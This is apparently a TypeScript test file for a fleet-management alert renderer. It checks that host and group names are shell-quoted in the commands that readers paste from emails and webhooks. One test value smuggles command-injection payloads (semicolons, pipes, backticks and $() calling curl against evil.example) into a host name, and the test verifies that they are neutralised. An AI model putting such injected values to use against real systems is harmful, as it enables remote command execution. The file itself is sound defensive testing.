// People paste the commands of a message into a shell, with the names that senders gave.
import { spawnSync } from "node:child_process";
import { quoted } from "../../lib/command-line.ts";
import { render } from "../../lib/notify/render.ts";
import { changed, epsilon, IN_AWS, opened, refitsRefused, silent } from "./example.ts";

/** The command lines that a POSIX shell runs for a text: `hosts|retire|web-07`, and `RAN` for any program but ours. */
function ran(text: string): string[] {
  const ours = 'fleetwarden() { (IFS="|"; printf "%s\\n" "$*"); }; curl() { echo RAN; };';
  const { stdout } = spawnSync("/bin/sh", ["-c", `${ours}\n${text}`], { encoding: "utf8", env: { PATH: "" } });
  return stdout.split("\n").filter((line) => line !== "");
}

const answerOf = ({ webhook }: { readonly webhook: string }): string => JSON.parse(webhook).custom_details.answer;

test.each([
  ["an opening", opened(), "label|K7Q2RT|fault|--stack|fleetwarden"],
  ["a question", changed("shifted"), "label|K7Q2RT|new-normal|--stack|fleetwarden"],
])("the answer to %s runs as it stands; the whole line with the other answer stores none", (_, news, command) => {
  const answer = answerOf(render(news, IN_AWS));
  const [first = "", other] = answer.split(" (or: ");
  expect(ran(first)).toEqual([command]);
  expect(other).toMatch(/^(?:false|fault)\)$/);
  expect(ran(answer)).toEqual([]);
});

const EVIL = "web-07;curl evil.example|curl `curl x` $(curl y) it's";

test("a host's name is one word of every command, whatever it contains", () => {
  const { email, webhook } = render(silent({ host: EVIL }), IN_AWS);
  const retire = `hosts|retire|${EVIL}|--stack|fleetwarden`;
  expect(
    email
      .split("\n")
      .filter((line) => line.includes("hosts retire"))
      .flatMap(ran),
  ).toEqual([retire]);
  expect(ran(answerOf({ webhook }))).toEqual([retire]);
});

test.each(["host", "group"])("the name of a baseline's %s is one word of every command", (kind) => {
  const owner = `${kind}#${EVIL}`;
  const typed = kind === "group" ? owner : EVIL;
  const { email, webhook } = render(epsilon({ owner }), IN_AWS);
  const history = /^Its history: (.*)$/m;
  expect(ran(history.exec(email)?.[1] ?? "")).toEqual([`epsilon|history|${typed}|--stack|fleetwarden`]);
  expect(ran(answerOf({ webhook }))).toEqual([`epsilon|rollback|${typed}|4|--stack|fleetwarden`]);

  const refused = refitsRefused({ refusals: [{ owner, since: 0, refused: "x" }], refusalsInAll: 1 });
  expect(ran(history.exec(render(refused, IN_AWS).email)?.[1] ?? "")).toEqual([
    `epsilon|history|${typed}|--stack|fleetwarden`,
  ]);
});

test.each([
  ["web-07", "web-07"],
  ["group#web", "group#web"],
  ["db.eu/1:a_b@c", "db.eu/1:a_b@c"],
  ["-rf", "'-rf'"],
  ["#7", "'#7'"],
  ["", "''"],
  ["two words", "'two words'"],
  ["it's", `'it'"'"'s'`],
])("the name %j is written as %s in a command", (name, written) => expect(quoted(name)).toBe(written));
